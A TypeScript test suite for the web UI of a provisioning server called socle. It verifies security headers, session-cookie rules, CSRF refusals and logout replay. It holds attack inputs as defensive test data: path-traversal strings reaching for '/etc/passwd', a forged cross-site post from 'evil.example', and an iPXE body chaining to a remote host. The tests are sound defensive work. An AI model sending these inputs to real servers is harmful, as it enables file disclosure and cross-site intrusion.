// The web UI over real HTTPS without a browser: the page and bundle with their security headers,
// no way out of the bundle, and the session cookie's rules, tried as an attacker would.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { ADMIN_PASSWORD, startTestSocle, type TestSocle } from "./helpers/socle.ts";
import { buildUi } from "../build/ui.ts";
import { UI_CSP } from "../src/ui/serve.ts";

const ROOT = join(import.meta.dir, "..");
let s: TestSocle;
let bundleJs = "";

beforeAll(async () => {
  await buildUi(ROOT);
  bundleJs = readdirSync(join(ROOT, "assets", "ui")).find((n) => n.endsWith(".js"))!;
  s = await startTestSocle();
});
afterAll(async () => {
  await s.stop();
});

/** A request with the session cookie and no Authorization header. */
const withCookie = (method: string, path: string, cookie: string, opts: { ui?: boolean; body?: unknown } = {}) =>
  s.req(method, path, {
    auth: null,
    headers: { Cookie: `__Host-socle-session=${cookie}`, ...(opts.ui === false ? {} : { "X-Socle-UI": "1" }) },
    ...(opts.body !== undefined ? { body: opts.body } : {}),
  });

async function login(name = "admin", password = ADMIN_PASSWORD): Promise<{ res: Response; cookie: string; setCookie: string }> {
  const res = await s.req("POST", "/api/v3/ui/login", { auth: null, body: { Name: name, Password: password }, headers: { "X-Socle-UI": "1" } });
  const setCookie = res.headers.get("set-cookie") ?? "";
  const cookie = /__Host-socle-session=([^;]*)/.exec(setCookie)?.[1] ?? "";
  return { res, cookie, setCookie };
}

describe("serving", () => {
  test("GET / and the client routes answer index.html with the CSP and no-cache", async () => {
    for (const path of ["/", "/machines", "/machines/0b6a1c1e-0000-4000-8000-000000000001", "/system", "/login"]) {
      const r = await s.req("GET", path, { auth: null });
      expect(r.status).toBe(200);
      expect(r.headers.get("content-type")).toContain("text/html");
      expect(r.headers.get("cache-control")).toBe("no-cache");
      expect(r.headers.get("content-security-policy")).toBe(UI_CSP);
      expect(r.headers.get("x-content-type-options")).toBe("nosniff");
      expect(r.headers.get("referrer-policy")).toBe("no-referrer");
      expect(r.headers.get("cross-origin-opener-policy")).toBe("same-origin");
      expect(r.headers.get("www-authenticate")).toBeNull();
      const html = await r.text();
      expect(html).toContain(`/ui/${bundleJs}`);
      // Nothing inlined: the CSP allows no inline script or style.
      expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
      expect(html).not.toContain("<style");
    }
  });

  test("bundle files are immutable for a year, typed, with the same headers", async () => {
    const r = await s.req("GET", `/ui/${bundleJs}`, { auth: null });
    expect(r.status).toBe(200);
    expect(r.headers.get("content-type")).toContain("text/javascript");
    expect(r.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    expect(r.headers.get("content-security-policy")).toBe(UI_CSP);
    expect((await r.text()).length).toBeGreaterThan(1000);
    const head = await s.req("HEAD", `/ui/${bundleJs}`, { auth: null });
    expect(head.status).toBe(200);
  });

  test("no path leaves the bundle: .., %2e%2e, encoded slashes, NUL, index.html by name", async () => {
    const paths = [
      "/ui/../package.json",
      "/ui/%2e%2e/package.json",
      "/ui/%2E%2E%2Fpackage.json",
      "/ui/..%2fpackage.json",
      "/ui/..%5cpackage.json",
      "/ui/%2e%2e%2f%2e%2e%2fpackage.json",
      "/ui/index.html%00.js",
      `/ui/${bundleJs}%00`,
      "/ui/.%2e/.%2e/etc/passwd",
      "/ui/index.html",
      "/ui/",
      "/ui",
      "/machines/..%2f..%2fpackage.json",
      "/machines/a/b",
      "/%2e%2e/package.json",
      "/package.json",
      "/src/main.ts",
      "/assets/ui/index.html",
    ];
    for (const p of paths) {
      const r = await fetch(`${s.base}${p}`, { tls: { ca: s.socle.caCertPem } } as RequestInit);
      const text = await r.text();
      expect({ p, status: r.status }).toEqual({ p, status: 404 });
      expect(text).not.toContain('"name": "socle"');
      expect(text).not.toContain("root:");
    }
  });

  test("writes to a page path are not served", async () => {
    const r = await s.req("POST", "/machines", { auth: null, body: {} });
    expect(r.status).toBe(404);
  });

  test("the API's own 404 is unchanged", async () => {
    const r = await s.call("GET", "/api/v3/nonsense/x/y/z");
    expect(r.status).toBe(404);
    expect(r.body.Messages[0]).toContain("/api/v3/nonsense/x/y/z");
  });
});

describe("session", () => {
  test("login sets a __Host- HttpOnly SameSite=Strict cookie and never returns the token", async () => {
    const { res, cookie, setCookie } = await login();
    expect(res.status).toBe(200);
    const body = (await res.json()) as Record<string, unknown>;
    expect(body.Name).toBe("admin");
    expect(Array.isArray(body.Roles)).toBe(true);
    expect(JSON.stringify(body)).not.toContain(cookie);
    expect(cookie.split(".").length).toBe(3);
    expect(setCookie).toContain("Secure");
    expect(setCookie).toContain("HttpOnly");
    expect(setCookie).toContain("SameSite=Strict");
    expect(setCookie).toContain("Path=/");
    expect(setCookie).toContain("Max-Age=28800");
    expect(setCookie).not.toContain("Domain=");
    expect(res.headers.get("cache-control")).toBe("no-store");
  });

  test("the cookie reads the API; writes need X-Socle-UI: 1", async () => {
    const { cookie } = await login();
    const list = await withCookie("GET", "/api/v3/machines", cookie, { ui: false });
    expect(list.status).toBe(200);
    const me = await withCookie("GET", "/api/v3/ui/session", cookie);
    expect(((await me.json()) as { Name: string }).Name).toBe("admin");
    const noHeader = await withCookie("POST", "/api/v3/machines", cookie, { ui: false, body: { Name: "csrf-1" } });
    expect(noHeader.status).toBe(403);
    expect(((await noHeader.json()) as { Messages: string[] }).Messages.join()).toContain("X-Socle-UI");
    const wrongValue = await s.req("POST", "/api/v3/machines", { auth: null, body: { Name: "csrf-2" }, headers: { Cookie: `__Host-socle-session=${cookie}`, "X-Socle-UI": "0" } });
    expect(wrongValue.status).toBe(403);
    expect((await s.call("GET", "/api/v3/machines?Name=csrf-1")).body).toEqual([]);
    const ok = await withCookie("POST", "/api/v3/machines", cookie, { body: { Name: "ui-made" } });
    expect(ok.status).toBe(201);
    const uuid = ((await ok.json()) as { Uuid: string }).Uuid;
    expect((await withCookie("DELETE", `/api/v3/machines/${uuid}`, cookie)).status).toBe(200);
  });

  test("a cross-site form post (no cookie: SameSite) is refused before authentication, with no Basic challenge; UI requests get none either", async () => {
    // What a foreign page's form can send: a form body, no custom header, and (SameSite=Strict) no cookie.
    const r = await s.req("POST", "/api/v3/machines", { auth: null, raw: "Name=evil", type: "application/x-www-form-urlencoded", headers: { Origin: "https://evil.example" } });
    expect(r.status).toBe(403);
    expect(r.headers.get("www-authenticate")).toBeNull();
    // The API's own clients still get the challenge; the UI's requests do not.
    const plain = await s.req("POST", "/api/v3/machines", { auth: null, body: { Name: "x" } });
    expect(plain.status).toBe(401);
    expect(plain.headers.get("www-authenticate")).toContain("Basic");
    const ui = await s.req("GET", "/api/v3/machines", { auth: null, headers: { "X-Socle-UI": "1" } });
    expect(ui.status).toBe(401);
    expect(ui.headers.get("www-authenticate")).toBeNull();
  });

  test("a bad or a machine token in the cookie is the one 401, with no challenge", async () => {
    const m = await s.call("POST", "/api/v3/machines", { body: { Name: "tok-m", HardwareAddrs: ["52:54:00:aa:00:01"] } });
    const mt = await s.call("GET", `/api/v3/machines/${m.body.Uuid}/token`);
    expect(mt.status).toBe(200);
    for (const token of [mt.body.Token as string, "not.a.token", "x"]) {
      const r = await withCookie("GET", `/api/v3/machines/${m.body.Uuid}`, token);
      expect(r.status).toBe(401);
      expect(r.headers.get("www-authenticate")).toBeNull();
      expect(((await r.json()) as { Messages: string[] }).Messages[0]).toContain("authentication failed");
    }
    // The same machine token works as a bearer header: it is the cookie that refuses it.
    expect((await s.req("GET", `/api/v3/machines/${m.body.Uuid}`, { auth: `Bearer ${mt.body.Token}` })).status).toBe(200);
  });

  test("an Authorization header wins over the cookie", async () => {
    const r = await s.req("GET", "/api/v3/machines", { auth: "Bearer nonsense", headers: { Cookie: "__Host-socle-session=also-nonsense" } });
    expect(r.status).toBe(401);
    const ok = await s.req("GET", "/api/v3/machines", { headers: { Cookie: "__Host-socle-session=nonsense" } });
    expect(ok.status).toBe(200);
  });

  test("logout clears the cookie and the token is refused afterwards (replay)", async () => {
    const { cookie } = await login();
    expect((await withCookie("GET", "/api/v3/machines", cookie)).status).toBe(200);
    const noHeader = await withCookie("POST", "/api/v3/ui/logout", cookie, { ui: false });
    expect(noHeader.status).toBe(403);
    const out = await withCookie("POST", "/api/v3/ui/logout", cookie);
    expect(out.status).toBe(204);
    expect(out.headers.get("set-cookie")).toContain("Max-Age=0");
    const replay = await withCookie("GET", "/api/v3/machines", cookie);
    expect(replay.status).toBe(401);
    expect(replay.headers.get("www-authenticate")).toBeNull();
    // Even as a bearer header: the token is on the deny-list, not just out of the browser.
    expect((await s.req("GET", "/api/v3/machines", { auth: `Bearer ${cookie}` })).status).toBe(401);
    // Another session of the same user goes on.
    const other = await login();
    expect((await withCookie("GET", "/api/v3/machines", other.cookie)).status).toBe(200);
    // A logout without a cookie, or with a dead one, still answers 204 and clears.
    expect((await s.req("POST", "/api/v3/ui/logout", { auth: null, headers: { "X-Socle-UI": "1" } })).status).toBe(204);
    expect((await withCookie("POST", "/api/v3/ui/logout", cookie)).status).toBe(204);
  });

  test("a new password ends the session (its token's Secret changed)", async () => {
    expect((await s.call("POST", "/api/v3/users", { body: { Name: "ui-pw", Roles: ["superuser"] } })).status).toBeLessThan(300);
    expect((await s.call("POST", "/api/v3/users/ui-pw/password", { body: { Password: "first-password-1" } })).status).toBe(200);
    const { cookie } = await login("ui-pw", "first-password-1");
    expect((await withCookie("GET", "/api/v3/machines", cookie)).status).toBe(200);
    expect((await s.call("POST", "/api/v3/users/ui-pw/password", { body: { Password: "second-password-2" } })).status).toBe(200);
    expect((await withCookie("GET", "/api/v3/machines", cookie)).status).toBe(401);
  });

  test("one message for a wrong password and an unknown user; bad bodies are 400", async () => {
    const a = await login("admin", "wrong");
    const b = await login("nobody-here", "wrong");
    expect(a.res.status).toBe(401);
    expect(b.res.status).toBe(401);
    expect(await a.res.text()).toBe(await b.res.text());
    expect(a.setCookie).toBe("");
    expect(a.res.headers.get("www-authenticate")).toBeNull();
    for (const body of [{}, { Name: 1, Password: "x" }, { Name: "admin" }, [], "x"]) {
      const r = await s.req("POST", "/api/v3/ui/login", { auth: null, body, headers: { "X-Socle-UI": "1" } });
      expect(r.status).toBe(400);
    }
    const huge = await s.req("POST", "/api/v3/ui/login", { auth: null, raw: JSON.stringify({ Name: "admin", Password: "x".repeat(100_000) }) });
    expect(huge.status).toBe(413);
  });

  test("the login throttle applies: repeated failures get 429 with Retry-After", async () => {
    let last: Response | undefined;
    for (let i = 0; i < 12; i++) {
      last = (await login("throttled-user", `guess-${i}`)).res;
      if (last.status === 429) break;
    }
    expect(last!.status).toBe(429);
    expect(Number(last!.headers.get("retry-after"))).toBeGreaterThan(0);
  });

  test("uiSessionTimeout sets the cookie's lifetime, capped by maxTokenTtl", async () => {
    expect((await s.call("POST", "/api/v3/prefs", { body: { uiSessionTimeout: "600" } })).status).toBe(200);
    expect((await login()).setCookie).toContain("Max-Age=600");
    expect((await s.call("POST", "/api/v3/prefs", { body: { uiSessionTimeout: "90000", maxTokenTtl: "7200" } })).status).toBe(200);
    expect((await login()).setCookie).toContain("Max-Age=7200");
    expect((await s.call("POST", "/api/v3/prefs", { body: { uiSessionTimeout: "28800", maxTokenTtl: "86400" } })).status).toBe(200);
  });
});

describe("writes from another site", () => {
  // A browser that once answered the Basic dialog sends those credentials with any site's form:
  // the Origin and Sec-Fetch-Site it adds decide, whatever the credential.
  test("refused with 403 before anything is written, for cached Basic credentials and a session cookie alike, on routes that take any body", async () => {
    const { cookie } = await login();
    const tries: { name: string; headers: Record<string, string> }[] = [
      { name: "foreign Origin", headers: { Origin: "https://evil.example" } },
      { name: "Sec-Fetch-Site cross-site", headers: { "Sec-Fetch-Site": "cross-site" } },
      { name: "Sec-Fetch-Site same-site (another port of this host)", headers: { "Sec-Fetch-Site": "same-site" } },
      { name: "Origin null (a sandboxed page)", headers: { Origin: "null" } },
    ];
    for (const t of tries) {
      const basic = await s.req("POST", "/api/v3/files/csrf/evil.ipxe", { body: "#!ipxe\nchain http://203.0.113.66/x\n", headers: { ...t.headers, "Content-Type": "text/plain" } });
      expect({ t: t.name, status: basic.status }).toEqual({ t: t.name, status: 403 });
      expect(((await basic.json()) as { Messages: string[] }).Messages.join(" ")).toContain("from another site refused");
      const viaCookie = await s.req("POST", "/api/v3/profiles", { auth: null, body: { Name: "csrf" }, headers: { ...t.headers, Cookie: `__Host-socle-session=${cookie}`, "X-Socle-UI": "1" } });
      expect({ t: t.name, status: viaCookie.status }).toEqual({ t: t.name, status: 403 });
    }
    expect((await s.req("GET", "/api/v3/files/csrf/evil.ipxe")).status).toBe(404);
    expect((await s.req("GET", "/api/v3/profiles/csrf")).status).toBe(404);
    // This server's own pages, and clients that are not browsers (no Origin, no Sec-Fetch-Site), write.
    const own = await s.req("POST", "/api/v3/profiles", { body: { Name: "own-origin" }, headers: { Origin: s.base, "Sec-Fetch-Site": "same-origin" } });
    expect(own.status).toBe(201);
    expect((await s.req("POST", "/api/v3/profiles", { body: { Name: "plain-client" } })).status).toBe(201);
  });

  test("a page opened in a browser tab gets no Basic challenge (the browser would cache what the operator types)", async () => {
    const r = await s.req("GET", "/api/v3/machines", { auth: null, headers: { "Sec-Fetch-Mode": "navigate" } });
    expect(r.status).toBe(401);
    expect(r.headers.get("www-authenticate")).toBeNull();
    expect((await s.req("GET", "/api/v3/machines", { auth: null })).headers.get("www-authenticate")).toContain("Basic");
  });
});

test("the session cookie cannot mint what outlives it: tokens, a machine token or certificate, a webhook's secret, an HA enrolment", async () => {
  const { cookie } = await login();
  const m = await s.call("POST", "/api/v3/machines", { body: { Name: "sess-m", HardwareAddrs: ["52:54:00:aa:00:09"] } });
  for (const [method, path] of [
    ["GET", "/api/v3/users/admin/token?ttl=86400"],
    ["GET", `/api/v3/machines/${m.body.Uuid}/token`],
    ["POST", `/api/v3/machines/${m.body.Uuid}/csr`],
    ["GET", "/api/v3/webhooks/any/secret"],
    ["POST", "/api/v3/ha/enrolment"],
  ] as const) {
    const r = await withCookie(method, path, cookie, method === "POST" ? { body: {} } : {});
    expect({ path, status: r.status }).toEqual({ path, status: 403 });
    expect(((await r.json()) as { Messages: string[] }).Messages.join(" ")).toContain("outlive the web UI's session");
  }
  // The same user with explicit credentials still can.
  const explicit = await s.req("GET", "/api/v3/users/admin/token");
  expect(explicit.status).toBe(200);
  expect(explicit.headers.get("cache-control")).toBe("no-store");
});

test("an event stream opened with the session ends at logout: nothing after it reaches the logged-out browser", async () => {
  const { cookie } = await login();
  const res = await withCookie("GET", "/api/v3/events?type=profiles", cookie, { ui: false });
  expect(res.status).toBe(200);
  const reader = res.body!.getReader();
  const dec = new TextDecoder();
  let text = "";
  const read = (async () => {
    for (;;) {
      const { done, value } = await reader.read();
      if (done) return "ended";
      text += dec.decode(value);
    }
  })();
  expect((await s.call("POST", "/api/v3/profiles", { body: { Name: "stream-before" } })).status).toBe(201);
  for (let i = 0; i < 50 && !text.includes("stream-before"); i++) await Bun.sleep(20);
  expect(text).toContain("stream-before");
  expect((await withCookie("POST", "/api/v3/ui/logout", cookie)).status).toBe(204);
  expect((await s.call("POST", "/api/v3/profiles", { body: { Name: "stream-after" } })).status).toBe(201);
  const ended = await Promise.race([read, Bun.sleep(3000).then(() => "still open")]);
  expect(ended).toBe("ended");
  expect(text).not.toContain("stream-after");
});
